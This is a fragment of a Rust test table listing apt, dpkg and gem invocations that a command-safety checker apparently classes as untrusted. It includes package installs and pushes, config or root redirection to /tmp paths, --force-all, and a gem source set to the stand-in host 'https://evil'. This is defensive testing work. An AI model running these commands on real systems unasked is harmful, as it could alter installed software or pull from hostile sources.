        (&["apt", "-c", "/tmp/apt.conf", "list"], APT),
        (&["apt", "changelog", "x"], APT),
        (&["apt", "download", "x"], APT),
        // An abbreviation is not trusted to be the listed option.
        (&["apt", "list", "--instal"], APT),
        (&["apt", "--", "install", "x"], APT),
        (&["dpkg", "-i", "x.deb"], DPKG),
        (&["dpkg", "--install", "x.deb"], DPKG),
        (&["dpkg", "-r", "x"], DPKG),
        (&["dpkg", "--configure", "-a"], DPKG),
        (&["dpkg", "--set-selections"], DPKG),
        (&["dpkg", "--root=/tmp/r", "-l"], DPKG),
        (&["dpkg", "--admindir", "/tmp/db", "-l"], DPKG),
        (&["dpkg", "--force-all", "-l"], DPKG),
        (&["dpkg", "-li", "x.deb"], DPKG),
        (&["gem", "install", "x"], GEM),
        (&["gem", "build", "x.gemspec"], GEM),
        (&["gem", "push", "x.gem"], GEM),
        (&["gem", "environment"], GEM),
        (&["gem", "list", "--config-file", "/tmp/x"], GEM),
        (&["gem", "list", "--source", "https://evil"], GEM),
        (&["gem", "plugin-cmd"], GEM),
    ]);
}
